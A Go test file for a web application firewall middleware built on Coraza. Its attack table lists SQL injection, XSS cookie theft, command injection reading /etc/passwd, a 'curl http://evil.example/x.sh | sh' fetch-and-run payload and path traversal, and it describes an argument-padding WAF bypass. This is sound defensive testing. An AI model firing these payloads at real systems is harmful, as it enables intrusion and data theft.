package waf

import (
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/wardensec/warden/internal/gateway/reqctx"
)

func TestMain(m *testing.M) {
	slog.SetDefault(slog.New(slog.DiscardHandler))
	os.Exit(m.Run())
}

// upstream echoes the body it received, so a test can tell that the WAF
// handed the buffered body on intact.
var upstream = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	w.Header().Set("Content-Type", "application/json")
	fmt.Fprintf(w, `{"ok":true,"echo":%q}`, b)
})

// stack is what the gateway core would build around the WAF: a request
// state (normally from the request-id middleware) whose final decision the
// test can read back, keyed by the X-Test-Id header.
type stack struct {
	srv    *httptest.Server
	mu     sync.Mutex
	states map[string]reqctx.Snapshot
}

func newStack(t *testing.T, mw *Middleware, routes map[string]RouteConfig) *stack {
	t.Helper()
	s := &stack{states: map[string]reqctx.Snapshot{}}
	mux := http.NewServeMux()
	for name, rc := range routes {
		h, err := mw.Wrap(name, rc, upstream)
		if err != nil {
			t.Fatal(err)
		}
		mux.Handle("/"+name+"/", h)
	}
	s.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		st := &reqctx.State{ID: r.Header.Get("X-Test-Id")}
		mux.ServeHTTP(w, r.WithContext(reqctx.With(r.Context(), st)))
		s.mu.Lock()
		s.states[st.ID] = st.Snapshot()
		s.mu.Unlock()
	}))
	t.Cleanup(s.srv.Close)
	return s
}

var testID int64
var testIDMu sync.Mutex

func (s *stack) do(t *testing.T, method, path, ctype, body string) (int, string, reqctx.Snapshot) {
	t.Helper()
	testIDMu.Lock()
	testID++
	id := fmt.Sprintf("t%d", testID)
	testIDMu.Unlock()
	req, err := http.NewRequest(method, s.srv.URL+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Test-Id", id)
	req.Header.Set("User-Agent", "warden-test/1.0")
	req.Header.Set("Accept", "application/json")
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	s.mu.Lock()
	defer s.mu.Unlock()
	return resp.StatusCode, string(b), s.states[id]
}

var (
	sharedOnce sync.Once
	sharedMW   *Middleware
	sharedErr  error
)

// blockingMW is compiled once for the package: a CRS compile costs about
// half a second of CPU.
func blockingMW(t *testing.T) *Middleware {
	t.Helper()
	sharedOnce.Do(func() {
		sharedMW, sharedErr = New(Config{Enabled: true}, Options{})
	})
	if sharedErr != nil {
		t.Fatal(sharedErr)
	}
	return sharedMW
}

func boolp(b bool) *bool { return &b }

var attacks = []struct{ name, query, json string }{
	{"sqli", "id=1' OR '1'='1", `{"id":"1' OR '1'='1' --"}`},
	{"sqli-union", "q=1 UNION SELECT username, password FROM users", `{"q":"1 UNION SELECT username, password FROM users"}`},
	{"xss", "q=<script>alert(document.cookie)</script>", `{"comment":"<script>alert(document.cookie)</script>"}`},
	{"xss-handler", `q=<img src=x onerror=alert(1)>`, `{"bio":"<img src=x onerror=alert(1)>"}`},
	{"cmdi", "host=127.0.0.1; cat /etc/passwd", `{"host":"127.0.0.1; cat /etc/passwd"}`},
	{"cmdi-subshell", "file=$(curl http://evil.example/x.sh | sh)", `{"file":"$(curl http://evil.example/x.sh | sh)"}`},
	{"traversal", "file=../../../../etc/passwd", `{"file":"../../../../etc/passwd"}`},
	{"traversal-encoded", "file=..%2f..%2f..%2f..%2fetc%2fshadow", `{"file":"..\/..\/..\/..\/etc\/shadow"}`},
}

func TestAttacksBlocked(t *testing.T) {
	s := newStack(t, blockingMW(t), map[string]RouteConfig{"api": {}})
	for _, a := range attacks {
		t.Run(a.name+"/query", func(t *testing.T) {
			q := a.query
			if !strings.Contains(q, "%") {
				k, v, _ := strings.Cut(q, "=")
				q = k + "=" + url.QueryEscape(v)
			}
			code, body, snap := s.do(t, "GET", "/api/items?"+q, "", "")
			assertBlocked(t, code, body, snap)
		})
		t.Run(a.name+"/json", func(t *testing.T) {
			code, body, snap := s.do(t, "POST", "/api/items", "application/json", a.json)
			assertBlocked(t, code, body, snap)
		})
	}
}

func assertBlocked(t *testing.T, code int, body string, snap reqctx.Snapshot) {
	t.Helper()
	if code != http.StatusForbidden {
		t.Fatalf("status = %d, want 403; body %s", code, body)
	}
	if snap.Decision != "deny" || !strings.HasPrefix(snap.Reason, "waf.") || snap.Reason == "waf.949110" {
		t.Fatalf("decision %q reason %q; want deny with the detecting rule", snap.Decision, snap.Reason)
	}
	var e struct {
		Error     string `json:"error"`
		RequestID string `json:"request_id"`
	}
	if err := json.Unmarshal([]byte(body), &e); err != nil || e.Error == "" || strings.Contains(body, "942") || strings.Contains(body, "941") {
		t.Fatalf("error body leaks or is not the gateway shape: %s", body)
	}
}

func TestBenignPasses(t *testing.T) {
	s := newStack(t, blockingMW(t), map[string]RouteConfig{"api": {}})
	cases := []struct{ method, path, ctype, body string }{
		{"GET", "/api/items?page=2&sort=name", "", ""},
		{"POST", "/api/orders", "application/json", `{"customer":"Ada Lovelace","items":[{"sku":"A-100","qty":2},{"sku":"B-7","qty":1}],"note":"Leave at the door, please."}`},
		{"POST", "/api/orders", "application/json", `{"email":"ada@example.com","tags":["new","priority"],"amount":19.99,"gift":false,"ref":null}`},
		{"POST", "/api/forms", "application/x-www-form-urlencoded", "name=Grace+Hopper&city=Arlington"},
	}
	for _, c := range cases {
		code, body, snap := s.do(t, c.method, c.path, c.ctype, c.body)
		if code != http.StatusOK || snap.Decision != "allow" {
			t.Fatalf("%s %s: status %d decision %q reason %q body %s", c.method, c.path, code, snap.Decision, snap.Reason, body)
		}
		if c.body != "" && !strings.Contains(body, `ok`) {
			t.Fatalf("upstream did not answer: %s", body)
		}
		var got struct{ Echo string }
		_ = json.Unmarshal([]byte(body), &got)
		if got.Echo != c.body {
			t.Fatalf("upstream saw body %q, want %q", got.Echo, c.body)
		}
	}
}

func TestDetectionOnlyPassesAndRecords(t *testing.T) {
	mw := blockingMW(t)
	s := newStack(t, mw, map[string]RouteConfig{"watch": {DetectionOnly: boolp(true)}})
	code, body, snap := s.do(t, "GET", "/watch/x?id="+url.QueryEscape("1' OR '1'='1"), "", "")
	if code != http.StatusOK {
		t.Fatalf("detection-only status = %d, body %s", code, body)
	}
	if snap.Decision != "detect" || !strings.HasPrefix(snap.Reason, "waf.94") {
		t.Fatalf("decision %q reason %q; want detect waf.94xxxx", snap.Decision, snap.Reason)
	}
	// A benign request on the same route records nothing.
	_, _, snap = s.do(t, "GET", "/watch/x?id=42", "", "")
	if snap.Decision != "allow" {
		t.Fatalf("benign request recorded as %q", snap.Decision)
	}
}

func TestGlobalDetectionOnly(t *testing.T) {
	mw, err := New(Config{Enabled: true, DetectionOnly: true}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer mw.Close()
	s := newStack(t, mw, map[string]RouteConfig{"a": {}, "b": {DetectionOnly: boolp(false)}})
	if code, _, snap := s.do(t, "GET", "/a/?q="+url.QueryEscape("<script>alert(1)</script>"), "", ""); code != 200 || snap.Decision != "detect" {
		t.Fatalf("global detection-only: %d %q", code, snap.Decision)
	}
	if code, _, _ := s.do(t, "GET", "/b/?q="+url.QueryEscape("<script>alert(1)</script>"), "", ""); code != 403 {
		t.Fatalf("route override to blocking: %d", code)
	}
}

func TestPerRouteExclusion(t *testing.T) {
	mw := blockingMW(t)
	// Find which rules flag the payload on a normal route, then exclude
	// exactly those on another route.
	s := newStack(t, mw, map[string]RouteConfig{"strict": {}})
	payload := "/strict/x?cmd=" + url.QueryEscape("; cat /etc/passwd")
	code, _, snap := s.do(t, "GET", payload, "", "")
	if code != 403 {
		t.Fatalf("payload not blocked on the strict route: %d", code)
	}
	ids := matchedFor(t, mw, payload)
	if len(ids) == 0 {
		t.Fatal("no matched rules recorded")
	}
	s2 := newStack(t, mw, map[string]RouteConfig{"strict": {}, "lax": {ExcludeRules: ids}})
	code, _, snap = s2.do(t, "GET", strings.Replace(payload, "/strict/", "/lax/", 1), "", "")
	if code != 200 || snap.Decision != "allow" {
		t.Fatalf("excluded rules %v still block on the lax route: %d %q %q", ids, code, snap.Decision, snap.Reason)
	}
	if code, _, _ := s2.do(t, "GET", payload, "", ""); code != 403 {
		t.Fatalf("exclusion leaked to the strict route: %d", code)
	}
	// Routes with the same exclusion set share one compiled WAF.
	before := len(mw.variants)
	if _, err := mw.Wrap("lax2", RouteConfig{ExcludeRules: ids}, upstream); err != nil {
		t.Fatal(err)
	}
	if len(mw.variants) != before {
		t.Fatalf("identical exclusions compiled a new WAF (%d -> %d)", before, len(mw.variants))
	}
}

// matchedFor returns the non-bookkeeping rules that a GET of path matches.
func matchedFor(t *testing.T, mw *Middleware, path string) []int {
	t.Helper()
	w, err := mw.waf(makeVariant(mw.cfg.ExcludeRules, nil, false))
	if err != nil {
		t.Fatal(err)
	}
	tx := w.NewTransaction()
	defer tx.Close()
	tx.ProcessConnection("127.0.0.1", 1, "", 0)
	tx.ProcessURI(path, "GET", "HTTP/1.1")
	tx.AddRequestHeader("Host", "localhost")
	tx.AddRequestHeader("User-Agent", "warden-test/1.0")
	tx.AddRequestHeader("Accept", "application/json")
	tx.ProcessRequestHeaders()
	_, _ = tx.ProcessRequestBody()
	return matchedIDs(tx)
}

func TestRouteDisabled(t *testing.T) {
	s := newStack(t, blockingMW(t), map[string]RouteConfig{"off": {Enabled: boolp(false)}})
	if code, _, _ := s.do(t, "GET", "/off/?id="+url.QueryEscape("1' OR '1'='1"), "", ""); code != 200 {
		t.Fatalf("disabled route blocked: %d", code)
	}
}

// TestArgumentPaddingRefused is the padding bypass: Coraza stops adding
// arguments at SecArgumentsLimit, so a payload placed after 1001 junk
// arguments would go uninspected. The gateway must refuse such a request
// before the WAF runs, for query, form and JSON bodies.
func TestArgumentPaddingRefused(t *testing.T) {
	mw, err := New(Config{Enabled: true, ArgumentLimit: 1000}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer mw.Close()
	s := newStack(t, mw, map[string]RouteConfig{"api": {}})
	sqli := url.QueryEscape("1' UNION SELECT password FROM users --")
	var junk []string
	for i := 0; i < 1001; i++ {
		junk = append(junk, fmt.Sprintf("p%d=x", i))
	}
	pad := strings.Join(junk, "&")

	var jf []string
	for i := 0; i < 1001; i++ {
		jf = append(jf, fmt.Sprintf(`"p%d":"x"`, i))
	}
	jsonPad := "{" + strings.Join(jf, ",") + `,"q":"1' UNION SELECT password FROM users --"}`

	cases := []struct{ name, method, path, ctype, body string }{
		{"query", "GET", "/api/x?" + pad + "&q=" + sqli, "", ""},
		{"form", "POST", "/api/x", "application/x-www-form-urlencoded", pad + "&q=" + sqli},
		{"json", "POST", "/api/x", "application/json", jsonPad},
		{"unknown-type", "POST", "/api/x", "text/plain", pad + "&q=" + sqli},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			code, body, snap := s.do(t, c.method, c.path, c.ctype, c.body)
			if code != http.StatusRequestEntityTooLarge || snap.Reason != "waf.argument_limit" {
				t.Fatalf("status %d reason %q body %s; want 413 waf.argument_limit", code, snap.Reason, body)
			}
		})
	}
	// A first Content-Type of text/plain must not hide a JSON body that
	// Coraza parses because a second header says JSON.
	req, _ := http.NewRequest("POST", s.srv.URL+"/api/x", strings.NewReader(jsonPad))
	req.Header.Add("Content-Type", "text/plain")
	req.Header.Add("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Fatalf("padded JSON behind a text/plain header: status %d, want 413", resp.StatusCode)
	}
	// Exactly at the limit is inspected normally, and the payload is seen.
	atLimit := strings.Join(junk[:999], "&") + "&q=" + sqli
	if code, _, snap := s.do(t, "GET", "/api/x?"+atLimit, "", ""); code != 403 || snap.Reason == "waf.argument_limit" {
		t.Fatalf("1000 args with SQLi: %d %q; want a WAF 403", code, snap.Reason)
	}
}

func TestDetectionOnlyLimitsPass(t *testing.T) {
	mw, err := New(Config{Enabled: true, ArgumentLimit: 10, RequestBodyLimit: 1024}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer mw.Close()
	s := newStack(t, mw, map[string]RouteConfig{"watch": {DetectionOnly: boolp(true)}})
	big := `{"a":"` + strings.Repeat("x", 2000) + `"}`
	code, body, snap := s.do(t, "POST", "/watch/x", "application/json", big)
	if code != 200 || snap.Decision != "detect" || snap.Reason != "waf.body_limit" || !strings.Contains(body, strings.Repeat("x", 2000)) {
		t.Fatalf("oversized body on detection-only route: %d %q %q (upstream must get the whole body)", code, snap.Decision, snap.Reason)
	}
	code, _, snap = s.do(t, "GET", "/watch/x?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9&j=10&k=11", "", "")
	if code != 200 || snap.Decision != "detect" || snap.Reason != "waf.argument_limit" {
		t.Fatalf("too many args on detection-only route: %d %q %q", code, snap.Decision, snap.Reason)
	}
}

func TestBodyLimit(t *testing.T) {
	mw, err := New(Config{Enabled: true, RequestBodyLimit: 1024}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer mw.Close()
	s := newStack(t, mw, map[string]RouteConfig{"api": {}})
	code, _, snap := s.do(t, "POST", "/api/x", "application/json", `{"a":"`+strings.Repeat("x", 2000)+`"}`)
	if code != http.StatusRequestEntityTooLarge || snap.Reason != "waf.body_limit" {
		t.Fatalf("oversized body: %d %q", code, snap.Reason)
	}
}

func TestResponseInspection(t *testing.T) {
	mw, err := New(Config{Enabled: true, ResponseBodyInspection: true}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer mw.Close()
	leaky := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Query().Get("leak") != "" {
			// A PHP error page: RESPONSE-953 data leakage.
			io.WriteString(w, "<b>Warning</b>: mysql_fetch_array() expects parameter 1 to be resource, boolean given in <b>/var/www/index.php</b> on line <b>12</b><br />")
			return
		}
		io.WriteString(w, "<html><body>hello</body></html>")
	})
	h, err := mw.Wrap("site", RouteConfig{}, leaky)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	get := func(q string) (int, string) {
		resp, err := http.Get(srv.URL + "/" + q)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	if code, body := get(""); code != 200 || !strings.Contains(body, "hello") {
		t.Fatalf("clean response: %d %s", code, body)
	}
	if code, body := get("?leak=1"); code != 403 || strings.Contains(body, "mysql") {
		t.Fatalf("leaking response: %d %s", code, body)
	}
}

func TestConfigValidate(t *testing.T) {
	bad := []Config{
		{ParanoiaLevel: 5},
		{ArgumentLimit: -1},
		{RequestBodyLimit: maxBodyLimit + 1},
		{ExcludeRules: []int{942100, -3}},
	}
	for _, c := range bad {
		if err := c.Validate(); err == nil {
			t.Errorf("%+v validated", c)
		}
	}
	err := (&Config{ExcludeRules: []int{1, 0}}).Validate()
	if err == nil || !strings.Contains(err.Error(), "exclude_rules[1]") {
		t.Fatalf("error path: %v", err)
	}
	if _, err := New(Config{Enabled: true, ParanoiaLevel: 9}, Options{}); err == nil {
		t.Fatal("New accepted an invalid config")
	}
}

func TestCountArgs(t *testing.T) {
	cases := []struct {
		query, ctype, body string
		want               int
	}{
		{"a=1&b=2", "", "", 2},
		{"", "application/json", `{"a":1,"b":{"c":"x","d":[1,2,{"e":null}]},"f":true}`, 6},
		{"", "application/vnd.api+json", `[1,2,3]`, 3},
		{"", "application/json", `{"a":[],"b":{}}`, 0},
		{"x=1", "application/x-www-form-urlencoded", "a=1&b=2&c=3", 4},
		{"", "text/xml", "<a>&amp;&amp;</a>", 0},
		{"", "multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n--XX\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\n2\r\n--XX--\r\n", 3},
	}
	for _, c := range cases {
		r := httptest.NewRequest("POST", "/?"+c.query, strings.NewReader(c.body))
		if c.query == "" {
			r.URL.RawQuery = ""
		}
		if c.ctype != "" {
			r.Header.Set("Content-Type", c.ctype)
		}
		if got := countArgs(r, []byte(c.body)); got != c.want {
			t.Errorf("countArgs(%q, %q, %q) = %d, want %d", c.query, c.ctype, c.body, got, c.want)
		}
	}
	// Two Content-Type headers: Coraza's JSON rule matches any of them, so
	// the JSON leaves must count even when the first header says text.
	leaves := "{" + strings.Repeat(`"k":1,`, 300) + `"z":1}`
	r := httptest.NewRequest("POST", "/", strings.NewReader(leaves))
	r.Header.Add("Content-Type", "text/plain")
	r.Header.Add("Content-Type", "application/json")
	if got := countArgs(r, []byte(leaves)); got != 301 {
		t.Fatalf("duplicate Content-Type: countArgs = %d, want 301", got)
	}
	// Invalid JSON falls back to an upper bound, never below the leaves.
	if got := jsonLeaves([]byte(`{"a":1,"b":2,"c":`)); got < 2 {
		t.Fatalf("invalid JSON bound = %d", got)
	}
}
